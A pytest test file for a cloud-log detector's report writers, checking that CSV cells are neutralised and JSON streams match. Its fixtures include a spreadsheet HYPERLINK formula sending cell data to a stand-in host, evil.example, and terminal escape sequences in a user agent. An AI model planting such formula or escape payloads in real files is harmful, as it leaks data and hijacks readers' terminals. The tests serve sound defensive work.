"""The report files: CSV cells that stay text in a spreadsheet and a terminal, JSON streamed exactly as `to_json`."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import date

import pytest

from detector.core.findings import Finding, Report, SkippedFile
from detector.core.text import FORMULA_STARTS
from detector.core.window import Window
from detector.local.cli import main
from tests.helpers import LogTree, cloudtrail_event

RowFactory = Callable[..., dict[str, str | None]]
WINDOW = Window(date(2026, 11, 20), date(2026, 11, 22))


def csv_rows(report: Report) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(report.to_csv())))


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_csv_cells_that_would_start_a_formula_are_neutralised(detection_row: RowFactory, start: str) -> None:
    # GIVEN a user agent, an ARN and a bucket that a spreadsheet would read as a formula
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    row = detection_row(0, user_agent=formula, principal_arn=formula, buckets=formula)
    report = Report(window=WINDOW, findings=[Finding.from_row(row)])
    # WHEN the report is written as CSV and read back
    (line,) = csv_rows(report)
    # THEN none of those cells starts a formula any more (a quote goes first, or the control is shown escaped),
    # so the spreadsheet shows the text instead of running it
    for name in ("user_agent", "principal_arn", "buckets"):
        assert not line[name].startswith(FORMULA_STARTS), (name, line[name])
        assert line[name].endswith('HYPERLINK("http://evil.example/?"&A1)')


def test_csv_cells_carry_no_terminal_controls(detection_row: RowFactory) -> None:
    # GIVEN a user agent with an escape sequence and a bell
    row = detection_row(0, user_agent="boto3/1.0 \x1b]0;owned\x07 \x1b[2J")
    report = Report(window=WINDOW, findings=[Finding.from_row(row)])
    # WHEN the report is written as CSV
    text = report.to_csv()
    # THEN they are written escaped, so `cat report.csv` cannot drive the terminal
    assert "\x1b" not in text and "\x07" not in text
    assert "\\x1b]0;owned\\x07" in text


def test_csv_keeps_plain_values_unchanged(detection_row: RowFactory) -> None:
    # GIVEN an ordinary finding
    row = detection_row(3)
    report = Report(window=WINDOW, findings=[Finding.from_row(row)])
    # WHEN it is written as CSV and read back
    (line,) = csv_rows(report)
    # THEN its values are as given, lists joined with spaces
    assert line["principal_arn"] == row["principal_arn"]
    assert line["user_agent"] == row["user_agent"]
    assert line["reasons"] == "outdated_sdk sigv2"
    assert line["requests"] == "4"


@pytest.mark.parametrize("count", [0, 1, 3])
def test_streamed_json_is_the_report_as_json(detection_row: RowFactory, count: int) -> None:
    # GIVEN a report with `count` findings, one non-ASCII, and a skipped file
    rows = [detection_row(n, user_agent=f"agent-é-{n}") for n in range(count)]
    skipped = [SkippedFile("logs/a.json.gz", "truncated gzip")]
    report = Report(window=WINDOW, files_skipped=skipped, findings=[Finding.from_row(row) for row in rows])
    # WHEN it is written finding by finding
    stream = io.StringIO()
    report.write_json(stream)
    # THEN the text is what dumping the whole report at once gives
    assert stream.getvalue() == json.dumps(report.to_dict(), indent=2, ensure_ascii=False) + "\n"


def test_local_scan_csv_neutralises_a_formula_user_agent(log_tree: LogTree, capsys: pytest.CaptureFixture[str]) -> None:
    # GIVEN a log whose SigV2 caller sends a user agent that is a spreadsheet formula
    log_tree.write([cloudtrail_event(agent='=HYPERLINK("http://evil.example")', signature="SigV2")])
    # WHEN `python -m detector scan PATH --format csv` reads it
    status = main(["scan", str(log_tree.root), "--format", "csv"])
    # THEN the finding's user-agent cell is text, not a formula
    (line,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert status == 0
    assert line["user_agent"] == '\'=HYPERLINK("http://evil.example")'
